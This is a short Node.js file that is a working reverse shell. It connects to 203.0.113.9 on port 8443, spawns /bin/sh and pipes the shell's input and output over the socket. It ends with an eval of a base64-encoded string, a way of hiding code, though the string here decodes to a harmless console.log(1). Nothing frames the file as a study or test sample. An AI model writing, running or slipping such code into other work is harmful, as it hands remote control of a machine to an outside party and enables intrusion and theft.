const net = require("net");
const cp = require("child_process");

var client = new net.Socket();
client.connect(8443, "203.0.113.9", function () {
  var sh = cp.spawn("/bin/sh", []);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());
